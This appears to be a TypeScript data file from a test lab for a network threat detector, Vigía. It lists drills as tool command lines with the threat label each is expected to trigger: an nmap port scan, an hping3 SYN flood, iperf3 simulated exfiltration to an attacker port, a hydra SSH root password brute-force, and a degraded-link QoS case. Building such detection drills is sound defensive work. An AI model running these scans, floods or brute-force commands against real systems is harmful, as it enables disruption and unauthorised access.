/** The attacks of the drills, as data: the real tool, from which side, and what Vigía must call it. */
import type { ThreatType } from '../../contract/threats.ts';
import { DrillError } from './drill-error.ts';
import type { Impairment } from './impaired-path.ts';
import { ATTACKERS, type Side, VICTIM } from './lab.ts';

export interface Attack {
  readonly name: string;
  readonly what: string;
  readonly expected: ThreatType;
  /** The address that the webhook must name; null where nobody attacks. */
  readonly attacker: string | null;
  /** The side that the command runs on: exfiltration leaves from the victim. */
  readonly side: Side;
  readonly command: readonly [string, ...string[]];
  /** A server that the victim runs for it. */
  readonly server?: 'sshd';
  /** What becomes of the path between the two sides, one after another, each while the command runs; what is measured must be what was set. */
  readonly paths?: readonly Impairment[];
}

const [FIRST] = ATTACKERS;
/** Each way; of both ways together 80 ms ± 20 ms. */
const IMPAIRED = { delay_ms: 40, jitter_ms: 10, loss: 0.04 };
/** Where the attacker takes in what is carried off. */
export const DROP_PORT = 5999;

export const ATTACKS: readonly Attack[] = [
  {
    name: 'port-scan',
    what: 'nmap asks 1,024 ports which of them are open',
    expected: 'port_scan',
    attacker: FIRST,
    side: 'attacker',
    command: [
      'nmap',
      '-sS',
      '-Pn',
      '-n',
      '-p1-1024',
      '--min-rate',
      '500',
      '--max-rate',
      '500',
      '-S',
      FIRST,
      '-e',
      'vg-attacker',
      VICTIM,
    ],
  },
  {
    name: 'syn-flood',
    what: 'hping3 opens 2,500 connections a second and finishes none',
    expected: 'syn_flood',
    attacker: FIRST,
    side: 'attacker',
    command: ['hping3', '-q', '-S', '-p', '80', '-i', 'u400', '-c', '15000', '-a', FIRST, VICTIM],
  },
  {
    name: 'exfiltration',
    what: 'the victim sends 60 MB a second to the attacker',
    expected: 'data_exfiltration',
    attacker: FIRST,
    side: 'victim',
    command: ['iperf3', '-c', FIRST, '-p', String(DROP_PORT), '-b', '480M', '-t', '6'],
  },
  {
    name: 'brute-force',
    what: "hydra guesses root's password by ssh, four guesses at once",
    expected: 'brute_force_attack',
    attacker: FIRST,
    side: 'attacker',
    command: ['hydra', '-I', '-l', 'root', '-x', '6:6:1', '-t', '4', `ssh://${VICTIM}`],
    server: 'sshd',
  },
  {
    name: 'qos',
    what: 'the path gets long, unsteady and lossy: 80 ms ± 20 ms there and back, 4 % lost each way, in order and then reordered',
    expected: 'qos_degradation',
    attacker: null,
    side: 'victim',
    // Enough segments a second for a rate of loss in each window, and less than an exfiltration.
    command: ['iperf3', '-c', FIRST, '-p', String(DROP_PORT), '-P', '8', '-b', '2M', '-l', '16K', '-t', '30'],
    paths: [
      { ...IMPAIRED, reorders: false },
      { ...IMPAIRED, reorders: true },
    ],
  },
];

/** @throws DrillError for a name that is no drill */
export function attackNamed(name: string): Attack {
  const attack = ATTACKS.find((candidate) => candidate.name === name);
  if (attack) return attack;
  const names = ATTACKS.map((candidate) => candidate.name).join(', ');
  throw new DrillError(`there is no drill ${name}`, `There are: ${names}`);
}
